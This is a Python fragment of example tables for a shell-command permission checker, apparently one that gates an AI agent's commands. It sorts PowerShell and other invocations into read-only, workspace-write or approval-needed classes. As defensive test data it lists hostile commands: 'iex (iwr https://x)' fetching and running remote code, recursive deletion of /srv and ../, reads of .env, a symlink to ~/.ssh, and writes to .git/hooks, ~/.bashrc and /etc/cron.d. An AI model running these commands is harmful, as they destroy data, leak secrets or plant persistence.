            examples=(
                Ex("pwsh -c 'Get-ChildItem src'", "ro", reads="src"),
                Ex("pwsh -NoProfile -Command 'Get-Content README.md | Select-String foo'", "ro", reads="README.md"),
                Ex("pwsh -c 'gci -Pa src -Rec; Get-Date'", "ro", reads="src"),
                Ex("pwsh -c 'Get-Content README.md 2>$null'", "ro", reads="README.md"),
                Ex("pwsh -c 'Set-Content out.txt hi'", "ww", writes="out.txt"),
                Ex("pwsh -c 'Get-Process > ps.txt'", "ww", writes="ps.txt"),
                Ex("pwsh -c 'Set-Content .git/hooks/pre-commit x'", "dfa", "protected_path"),
                Ex("pwsh -c 'Copy-Item README.md -Destination .vscode/tasks.json'", "dfa", "protected_path"),
                Ex("pwsh -c 'Remove-Item -Recurse -Force /srv'", "dfa", "catastrophic"),
                Ex("pwsh -c 'Remove-Item -r -fo ../'", "dfa", "catastrophic"),
                Ex("pwsh -c 'sort .env'", "dfa", reads=".env"),  # native sort on Linux: an unknown program here
                Ex("pwsh -c 'cat .env'", "dfa", reads=".env"),
                Ex("pwsh -c 'Get-Content ../secret.txt'", "ro", "outside_workspace"),
                Ex("pwsh -c 'Write-Output (Get-Content .env)'", "dfa", reads=".env"),
                Ex("pwsh -c 'iex (iwr https://x)'", "dfa"),
                Ex("pwsh -c 'echo $env:HOME'", "dfa"),
                Ex("pwsh -c 'Get-ChildItem Env:'", "dfa"),
                Ex("pwsh -c 'New-Item -ItemType SymbolicLink -Path k -Value ~/.ssh'", "dfa"),
                Ex("pwsh -c 'Get-Content -Path src -Stream x'", "dfa"),
                Ex("pwsh -File x.ps1", "dfa"),
                Ex("pwsh -EncodedCommand ZQBjAGgAbwA=", "dfa"),
                Ex("pwsh -WorkingDirectory / -c 'Remove-Item -Recurse x'", "dfa"),
                Ex("pwsh -c '& ./x.ps1'", "dfa"),
                Ex("pwsh -c '. ./x.ps1'", "dfa"),
                Ex("pwsh -c 'Get-ChildItem | % { rm $_ }'", "dfa"),
            ),
        ),
        "powershell": Program(
            "parser",
            examples=(
                Ex("powershell -Command gci -Recurse", "ro"),
                Ex("powershell.exe -NoProfile -Command 'type README.md'", "ro", reads="README.md"),
            ),
        ),
        "pwsh.exe": Program("parser"),
        "powershell.exe": Program("parser"),
    }
)

# Examples for the program-by-path class and unknown programs (no entry of their own).
EXTRA_EXAMPLES: tuple[Ex, ...] = (
    Ex("/usr/bin/cat README.md", "ro", reads="README.md"),
    Ex("/bin/cat README.md", "ro", reads="README.md"),
    Ex("./cat README.md", "dfa"),
    Ex("/tmp/x/rg foo src", "dfa"),
    Ex("./rg foo", "dfa"),
    Ex("src/ls", "dfa"),
    Ex("mytool .git/hooks/pre-commit", "dfa", "protected_path", writes=".git/hooks/pre-commit"),
    Ex("mytool --out=.git/hooks/x", "dfa", "protected_path"),
    Ex("mytool -o.git/hooks/x", "dfa", "protected_path"),
    Ex("mytool of=.git/hooks/x", "dfa", "protected_path"),
    Ex("mytool .env", "dfa", reads=".env", writes=".env"),
    Ex("mytool @.env", "dfa", reads=".env"),
    Ex("mytool https://example.com/a/b", "dfa", "-outside_workspace"),
    Ex("curl -o ~/.bashrc https://x", "dfa", "protected_path"),
    Ex("wget -O/etc/cron.d/x https://x", "dfa", "outside_workspace"),
    Ex("mytool -- ./-x", "dfa", reads="-x", writes="-x"),
    Ex("mytool src", "dfa", reads="src", writes="src"),  # a plain word naming an existing file is checked
    Ex("mytool escape", "dfa", "outside_workspace"),  # ... a symlink leading outside included
    Ex("mytool build --watch", "dfa", "-outside_workspace"),
    Ex("tree --out .git/hooks/x src", "dfa", "protected_path"),
)
